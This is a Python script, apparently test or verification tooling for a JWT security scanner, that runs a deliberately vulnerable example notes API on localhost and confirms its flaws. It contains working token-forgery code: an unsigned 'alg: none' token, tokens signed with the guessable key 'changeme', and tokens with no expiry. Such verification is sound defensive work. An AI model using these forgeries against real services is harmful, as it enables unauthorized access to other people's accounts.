"""Runs examples/notes_api under uvicorn on 127.0.0.1 (a free port) and attacks it the way
jwtward scan says it can be attacked. Prints one JSON object with what happened.

Usage: python notes_api_attack.py PATH/TO/examples/notes_api
"""

import base64
import json
import os
import sys
import threading
import time

app_dir = os.path.abspath(sys.argv[1])
sys.path.insert(0, app_dir)
os.chdir(app_dir)

import httpx  # noqa: E402
import jwt  # noqa: E402
import uvicorn  # noqa: E402

import main  # noqa: E402


def b64(obj: dict) -> str:
    return base64.urlsafe_b64encode(json.dumps(obj).encode()).rstrip(b"=").decode()


server = uvicorn.Server(uvicorn.Config(main.app, host="127.0.0.1", port=0, log_level="warning"))
thread = threading.Thread(target=server.run, daemon=True)
thread.start()
deadline = time.time() + 20
while not server.started:
    if time.time() > deadline or not thread.is_alive():
        sys.exit("uvicorn did not start")
    time.sleep(0.05)
port = server.servers[0].sockets[0].getsockname()[1]
base = f"http://127.0.0.1:{port}"
out = {}
try:
    with httpx.Client(base_url=base) as c:
        assert c.post("/auth/signup", data={"username": "alice", "password": "pw"}).status_code == 201
        r = c.post("/auth/token", data={"username": "alice", "password": "pw"})
        assert r.status_code == 200, r.text
        issued = r.json()["access_token"]
        cookie = r.headers.get("set-cookie", "").lower()
        out["cookie_httponly"] = "httponly" in cookie
        out["cookie_secure"] = "; secure" in cookie
        claims = jwt.decode(issued, options={"verify_signature": False})
        out["lifetime_secs"] = int(claims["exp"]) - int(claims["iat"])
    with httpx.Client(base_url=base) as c:
        # signature-not-verified: an unsigned token in the cookie is trusted.
        unsigned = b64({"alg": "none", "typ": "JWT"}) + "." + b64({"sub": "alice"}) + "."
        out["unsigned_cookie_status"] = c.get("/notes/quick", cookies={"access_token": unsigned}).status_code
        # weak-secret: a token signed with the fallback key is accepted.
        forged = jwt.encode({"sub": "alice", "exp": int(time.time()) + 60}, "changeme", algorithm="HS256")
        out["weak_key_status"] = c.get("/notes/", headers={"Authorization": f"Bearer {forged}"}).status_code
        # expiration-not-required: a token without exp is accepted.
        no_exp = jwt.encode({"sub": "alice"}, "changeme", algorithm="HS256")
        out["no_exp_status"] = c.get("/notes/", headers={"Authorization": f"Bearer {no_exp}"}).status_code
        # error-detail-leak: the library's error text comes back.
        out["garbage_detail"] = c.get("/notes/", headers={"Authorization": "Bearer garbage"}).json()["detail"]
        # A wrong key is still refused (the check above is not an accident).
        wrong = jwt.encode({"sub": "alice", "exp": int(time.time()) + 60}, "x" * 40, algorithm="HS256")
        out["wrong_key_status"] = c.get("/notes/", headers={"Authorization": f"Bearer {wrong}"}).status_code
finally:
    server.should_exit = True
    thread.join(timeout=10)
print(json.dumps(out))
